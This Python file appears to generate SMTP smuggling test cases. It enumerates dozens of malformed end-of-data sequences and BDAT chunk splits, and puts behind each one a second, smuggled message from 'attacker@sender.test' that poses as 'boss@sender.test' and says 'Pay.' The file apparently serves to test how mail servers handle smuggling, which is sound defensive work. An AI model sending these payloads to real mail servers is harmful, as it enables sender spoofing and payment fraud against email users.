"""What was published as an end of data that servers disagree about, and what attackers put behind it.

Each variant stands in the content of one message, before a whole second message in commands.  Who takes it for the end makes
two messages where the client meant one: that is smuggling.  Whether to refuse or to pass it on as text is a server's choice.
"""

import odd

# name -> bytes between two lines of the body, without the CRLF that ends the line before.
ENDS = {
    "LF . LF": "\n.\n", "LF . CRLF": "\n.\r\n", "LF . CR": "\n.\r", "CR . CR": "\r.\r", "CR . LF": "\r.\n",
    "CR . CRLF": "\r.\r\n", "CRLF . LF": "\r\n.\n", "CRLF . CR": "\r\n.\r", "CRLF . CR CRLF": "\r\n.\r\r\n",
    "CR CRLF . CRLF": "\r\r\n.\r\n", "CR CRLF . CR CRLF": "\r\r\n.\r\r\n", "CR CR . CR CR": "\r\r.\r\r",
    "LF CR . CRLF": "\n\r.\r\n", "LF CR . LF CR": "\n\r.\n\r", "CRLF CR . CRLF": "\r\n\r.\r\n", "LF LF . LF LF": "\n\n.\n\n",
    "LF CRLF . LF": "\n\r\n.\n", "CRLF LF . LF": "\r\n\n.\n", "CRLF . LF LF": "\r\n.\n\n", "CRLF . LF CR LF": "\r\n.\n\r\n",
    "CRLF NUL . CRLF": "\r\n\0.\r\n", "CRLF . NUL CRLF": "\r\n.\0\r\n", "CRLF . CR NUL LF": "\r\n.\r\0\n",
    "CR NUL LF . CRLF": "\r\0\n.\r\n", "LF NUL . LF": "\n\0.\n", "NUL LF . LF": "\0\n.\n",
    "CRLF NUL NUL . CRLF": "\r\n\0\0.\r\n", "LF . NUL LF": "\n.\0\n", "CRLF . CR LF NUL": "\r\n.\r\0\r\n",
    "CRLF .. CRLF": "\r\n..\r\n", "CRLF .. LF": "\r\n..\n", "LF .. LF": "\n..\n", "LF .. CRLF": "\n..\r\n",
    "CR .. CR": "\r..\r", "CRLF ... CRLF": "\r\n...\r\n", "CR CRLF .. CRLF": "\r\r\n..\r\n", "CRLF .. CR CRLF": "\r\n..\r\r\n",
    "CRLF . blank CRLF": "\r\n. \r\n", "CRLF . tab CRLF": "\r\n.\t\r\n", "CRLF blank . CRLF": "\r\n .\r\n",
    "LF . blank LF": "\n. \n", "CRLF . backspace CRLF": "\r\n.\b\r\n", "CRLF . DEL CRLF": "\r\n.\x7f\r\n",
    "CRLF . SUB CRLF": "\r\n.\x1a\r\n",
    "VT . VT": "\v.\v", "FF . FF": "\f.\f", "NEL . NEL": "\x85.\x85", "NEL in UTF-8": "\xc2\x85.\xc2\x85",
    "LINE SEPARATOR": "\xe2\x80\xa8.\xe2\x80\xa8", "PARAGRAPH SEPARATOR": "\xe2\x80\xa9.\xe2\x80\xa9", "RS . RS": "\x1e.\x1e",
    "eighth bit": "\x8d\x8a\xae\x8d\x8a", "CRLF, dot with eighth bit": "\r\n\xae\r\n", "full-width dot": "\r\n\xef\xbc\x8e\r\n",
    "overlong dot": "\r\n\xc0\xae\r\n", "overlong CRLF": "\xc0\x8d\xc0\x8a.\xc0\x8d\xc0\x8a",
    "IAC": "\xff\r\n\xff.\r\n", "escaped": "\\r\\n.\\r\\n", "CRLF . comment": "\r\n.;\r\n", "EOT": "\x04\r\n",
    "quoted-printable": "=0D=0A.=0D=0A", "entities": "&#13;&#10;.&#13;&#10;",
}

FIRST, SECOND = "first", "second"


def recipient(which, number, style):
    return f"v{number:02d}{style}-{which}@example.test"


def second_message(number, style):
    """What is to become a message of its own: its lines end as the style says."""
    end = {"c": "\r\n", "l": "\n", "r": "\r"}[style]
    lines = ["MAIL FROM:<attacker@sender.test>", f"RCPT TO:<{recipient(SECOND, number, style)}>", "DATA",
             "From: <boss@sender.test>", f"To: <{recipient(SECOND, number, style)}>", "Subject: smuggled", "", "Pay."]
    return end.join(lines) + end


# Lines of the commands behind by CRLF, LF and CR.
STYLES = "clr"


def content(number, style):
    variant = list(ENDS.values())[number]
    return (odd.CONTENT.decode() + "Text" + variant + second_message(number, style)).encode("latin-1") + b"\r\n.\r\n"


def transaction(number, style):
    return (*odd.EHLO, odd.line(f"MAIL FROM:<{odd.FROM}>"), odd.line(f"RCPT TO:<{recipient(FIRST, number, style)}>"))


def by_data():
    """(number, style, dialogue): the content of one message by DATA."""
    for number in range(len(ENDS)):
        for style in STYLES:
            yield number, style, odd.dialogue(f"smuggling/data-{number:02d}/{style}",
                                              (*transaction(number, style), odd.line("DATA")), odd.raw(content(number, style)))


def chunks(data, borders):
    parts = [data[a:b] for a, b in zip([0, *borders], [*borders, len(data)])]
    return [odd.raw(b"BDAT %d%s\r\n" % (len(part), b" LAST" if i == len(parts) - 1 else b"") + part) for i,
            part in enumerate(parts)]


# Where BDAT cuts the content around a real CRLF . CRLF, counted from the CR before the dot; no border = one chunk.
BORDERS = {"one chunk": [], "before CR": [0], "CR / LF": [1], "before the dot": [2], "behind the dot": [3], "dot CR / LF": [4],
           "behind the end": [5], "each byte": [0, 1, 2, 3, 4, 5]}


def by_chunks():
    """The same with an end of data that is plain text there, and the variants that are none, in one chunk."""
    base = len(ENDS)
    for offset, (name, borders) in enumerate(BORDERS.items()):
        head = odd.CONTENT + b"Text"
        data = head + b"\r\n.\r\n" + second_message(base + offset, "c").encode() + b"\r\n.\r\n"
        yield base + offset, "c", odd.dialogue(f"smuggling/chunks/{name}", transaction(base + offset, "c"),
                                               *chunks(data, [len(head) + border for border in borders]))
    base += len(BORDERS)
    for number in range(len(ENDS)):
        data = (odd.CONTENT.decode() + "Text" + list(ENDS.values())[number] + second_message(base + number,
            "c")).encode("latin-1")
        yield base + number, "c", odd.dialogue(f"smuggling/chunk-{number:02d}/c", transaction(base + number, "c"),
                                               *chunks(data, []))


def label(number, chunked):
    """What stands in the table."""
    names = list(ENDS)
    if not chunked:
        return names[number]
    number -= len(ENDS)
    return list(BORDERS)[number] if number < len(BORDERS) else names[number - len(BORDERS)]
